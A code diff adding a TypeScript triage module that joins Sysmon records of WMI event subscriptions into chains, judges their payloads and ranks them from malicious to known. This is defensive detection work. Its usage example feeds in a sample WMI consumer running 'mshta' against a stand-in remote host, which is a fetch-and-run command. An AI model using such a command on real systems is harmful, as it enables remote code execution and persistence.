@@ -1,0 +1,144 @@
+import type { ExclusionManifest } from '../../exclusions';
+import type { Chain, ConsumerContent, EventFile, Joining, JoinOptions } from '../join';
+import { joinEvents } from '../join';
+import type { Weight } from '../judgements/judgement';
+import { judgePayload } from '../judgements/payload-judgements';
+import type { Payload } from '../payload/payload';
+import { chainEvents } from './chain-events';
+import { ChainIds } from './chain-id';
+import { chainPayload } from './chain-payload';
+import { levelOf } from './levels';
+import { readQuery } from './read-query';
+import { Standings } from './standing';
+import type { Confidence, Finding, Level, Neighbour, TriagedChain, TriageReport } from './triaged';
+import { volumeOf } from './volume';
+
+/** How to judge recorded subscriptions. */
+export interface TriageOptions extends JoinOptions {
+  /** The day on which entries of the manifest have to be in force, YYYY-MM-DD. */
+  readonly today: string;
+  /** Verified subscriptions; those that have expired too. */
+  readonly manifest?: ExclusionManifest;
+}
+
+const WORST_FIRST: readonly Level[] = ['malicious', 'suspicious', 'notable', 'known'];
+const HEAVIEST_FIRST: readonly Weight[] = ['high', 'medium', 'low', 'base', 'information'];
+
+/** Recorded subscriptions on the way to a report: joined first, so that events beside them can be looked for, then judged. */
+export class Triage {
+  readonly #options: TriageOptions;
+  readonly #joining: Joining;
+  /** Consumers that many bindings share are read once. */
+  readonly #payloads = new Map<ConsumerContent, Payload | null>();
+
+  /**
+   * @param files - recorded events, as `readEvents` reads them
+   * @param options - how to join and judge
+   */
+  constructor(files: readonly EventFile[], options: TriageOptions) {
+    this.#options = options;
+    this.#joining = joinEvents(files, options);
+  }
+
+  /** The joined chains, by the time of their first events. */
+  get chains(): readonly Chain[] {
+    return this.#joining.chains;
+  }
+
+  /**
+   * What the consumer of a chain runs.
+   *
+   * @param chain - a chain
+   * @returns the payload in force; null where none was recorded
+   */
+  payloadOf({ consumer }: Chain): Payload | null {
+    if (consumer === null) {
+      return null;
+    }
+    const known = this.#payloads.get(consumer.content);
+    if (known !== undefined) {
+      return known;
+    }
+    const payload = chainPayload(consumer.content, consumer.wmiClass);
+    this.#payloads.set(consumer.content, payload);
+    return payload;
+  }
+
+  /**
+   * Judges all chains.
+   *
+   * @param neighboursOf - the events beside a chain; none unless given
+   * @returns the report
+   */
+  report(neighboursOf: (chain: Chain) => readonly Neighbour[] = () => []): TriageReport {
+    const { chains, more, duplicates, recorded, notes } = this.#joining;
+    const standings = new Standings(this.#options.manifest, this.#options.today);
+    const ids = new ChainIds();
+    const triaged = chains.map((chain) => this.#triaged(chain, ids, standings, neighboursOf(chain)));
+    const byLevel = WORST_FIRST.map((level) => triaged.filter((one) => one.level === level));
+    const [malicious = [], suspicious = [], notable = [], known = []] = byLevel;
+    return {
+      chains: byLevel.flat(),
+      levels: {
+        malicious: malicious.length,
+        suspicious: suspicious.length,
+        notable: notable.length,
+        known: known.length,
+      },
+      more,
+      duplicates,
+      recorded,
+      volume: volumeOf(recorded),
+      notes,
+    };
+  }
+
+  #triaged(chain: Chain, ids: ChainIds, standings: Standings, neighbours: readonly Neighbour[]): TriagedChain {
+    const payload = this.payloadOf(chain);
+    const query = readQuery(chain.filter?.content.query ?? null);
+    const standing = standings.of(chain);
+    const inPayload: readonly Finding[] = payload === null ? [] : judgePayload(payload);
+    const inRest: readonly Finding[] = [];
+    const events = chainEvents(chain);
+    return {
+      id: ids.of(chain),
+      chain,
+      ...levelOf({ chain, standing, payload: inPayload, rest: inRest }),
+      standing,
+      confidence: confidenceOf(chain),
+      query,
+      payload,
+      findings: HEAVIEST_FIRST.flatMap((weight) => [...inPayload, ...inRest].filter((one) => one.weight === weight)),
+      events: events.listed,
+      moreEvents: events.more,
+      neighbours,
+      detections: [],
+    };
+  }
+}
+
+/**
+ * Joins and judges recorded events.
+ *
+ * @param files - recorded events, as `readEvents` reads them
+ * @param options - how to join and judge
+ * @returns every subscription that the events show, worst first
+ * @throws TypeError if `today` is no day
+ * @example
+ * ```ts
+ * import { readEvents } from 'sysmon-wmi';
+ * import { triage } from 'lib/triage';
+ * const read = readEvents('{"EventID":20,"Operation":"Created","Name":" \\"u\\"","Type":"Command Line","Destination":" \\"mshta http://a.example\\""}');
+ * triage([{ ...read, name: 'events.jsonl' }], { today: '2026-11-25' }).chains[0]?.level; // 'malicious'
+ * ```
+ */
+export function triage(files: readonly EventFile[], options: TriageOptions): TriageReport {
+  return new Triage(files, options).report();
+}
+
+function confidenceOf({ filter, consumer, binding }: Chain): Confidence {
+  if (binding === null && filter !== null && consumer !== null) {
+    return 'guessed';
+  }
+  return filter === null || consumer === null || binding === null ? 'partial' : 'complete';
+}
